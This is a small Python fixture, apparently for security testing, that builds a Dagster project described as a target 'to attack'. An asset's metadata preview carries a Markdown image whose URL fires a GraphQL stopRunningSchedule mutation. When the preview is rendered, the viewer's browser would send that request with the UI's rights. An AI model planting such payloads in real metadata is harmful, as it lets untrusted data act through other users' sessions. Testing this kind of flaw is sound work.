"""A small Dagster project to attack: a running schedule, and an asset with a hostile row."""

import dagster as dg

from alphapulse_pipeline.warehouse.io_manager import table
from alphapulse_pipeline.warehouse.preview import cells

IMAGE = "![t](/graphql?query=mutation{stopRunningSchedule{__typename}})"
"""As Markdown, the browser of whoever looks at it would load this with the rights of the UI."""


@dg.asset
def transfers() -> dg.MaterializeResult[None]:
    preview = table(cells(["asset", "reference"], [["BTC", IMAGE]]))
    return dg.MaterializeResult(metadata={"preview": preview})


defs = dg.Definitions(
    assets=[transfers],
    schedules=[
        dg.ScheduleDefinition(
            name="hourly",
            cron_schedule="0 * * * *",
            target=[transfers],
            default_status=dg.DefaultScheduleStatus.RUNNING,
        )
    ],
)
